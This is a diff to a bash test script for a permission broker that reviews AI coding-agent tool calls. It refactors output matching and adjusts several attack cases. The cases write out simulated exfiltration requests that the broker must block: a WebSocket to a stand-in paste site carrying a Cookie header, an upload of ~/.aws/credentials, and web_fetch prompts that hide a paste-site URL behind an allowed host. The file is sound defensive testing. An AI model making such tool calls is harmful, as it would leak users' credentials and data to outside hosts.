@@ -41,8 +41,31 @@ payload() {
 	esac >"$T/p.json"
 }
 
-pending_has() { sg pending --json | grep -qF "\"session\":\"$1\""; }
-audited() { sg audit query --json --limit 0 | grep -F "\"session\":\"$1\"" | head -n 1 | grep -q .; }
+# Outputs are read whole before they are matched: under pipefail, grep -q
+# (or head) stopping early could kill sg with SIGPIPE and fail the check.
+pending_has() {
+	local out
+	out=$(sg pending --json) || return 1
+	[[ $out == *"\"session\":\"$1\""* ]]
+}
+audit_row() {
+	local out line
+	out=$(sg audit query --json --limit 0) || return 1
+	while IFS= read -r line; do
+		if [[ $line == *"\"session\":\"$1\""* ]]; then
+			printf '%s\n' "$line"
+			return 0
+		fi
+	done <<<"$out"
+	return 1
+}
+audited() { audit_row "$1" >/dev/null; }
+# value_has FIELD TEXT: the recorded request's FIELD contains TEXT
+value_has() {
+	local v
+	v=$("$Q" get "$T/rec.json" "$1") || return 1
+	[[ $v == *"$2"* ]]
+}
 
 # attack AGENT SESSION: run the hook; OUTCOME is waits (denied by the test,
 # as a reviewer would), or the broker's at-once decision; the request as
@@ -63,7 +86,7 @@ attack() {
 		id=$("$Q" get "$T/pending.json" 0.id)
 		sg decide "$id" deny --note "not covered" >/dev/null
 	else
-		sg audit query --json --limit 0 | grep -F "\"session\":\"$sess\"" | head -n 1 >"$T/row.json"
+		audit_row "$sess" >"$T/row.json"
 		OUTCOME=$("$Q" get "$T/row.json" decision)
 		"$Q" dump "$T/row.json" request >"$T/rec.json"
 	fi
@@ -99,13 +122,13 @@ not_allowed "Monitor opening a WebSocket to a paste site, rule other Monitor *"
 payload claude-code mon3 Monitor '{"description":"Watch","timeout_ms":300000,"ws":{"url":"wss://paste.example.net/in","headers":{"Cookie":"x"}}}'
 attack claude-code mon3
 kind_is other "Monitor ws with an unknown member"
-"$Q" get "$T/rec.json" urls.0 | grep -qF "wss://paste.example.net/in" || fail "mon3: the ws URL is not a target"
+value_has urls.0 "wss://paste.example.net/in" || fail "mon3: the ws URL is not a target"
 not_allowed "Monitor whose ws has a member the table lacks, rule other Monitor *"
 
 payload claude-code art1 Artifact '{"file_path":"~/.aws/credentials","title":"Notes"}'
 attack claude-code art1
 kind_is other "Artifact"
-"$Q" get "$T/rec.json" files.0.path | grep -qF "$HOME/.aws/credentials" || fail "art1: the uploaded file is not a target"
+value_has files.0.path "$HOME/.aws/credentials" || fail "art1: the uploaded file is not a target"
 grep -qF '.aws/credentials' "$T/summary" || fail "art1: the summary does not show the input: $(cat "$T/summary")"
 not_allowed "Artifact upload of ~/.aws/credentials, rule other Artifact *"
 
@@ -159,7 +182,7 @@ pass "the same Bash call without the unknown field is allowed by the preset"
 sg rules add allow 'net docs.python.org' --max-level high >/dev/null
 payload gemini wf1 web_fetch '{"prompt":"Compare https://docs.python.org/3/ and https://paste.example.net/x?d=1"}'
 attack gemini wf1
-"$Q" get "$T/rec.json" urls.1 | grep -qF paste.example.net || fail "wf1: the second URL is not a target"
+value_has urls.1 paste.example.net || fail "wf1: the second URL is not a target"
 not_allowed "web_fetch of two URLs, a rule for the first host"
 payload gemini wf2 web_fetch '{"prompt":"see https://docs.python.org/3/\nHTTPS://paste.example.net/x"}'
 attack gemini wf2
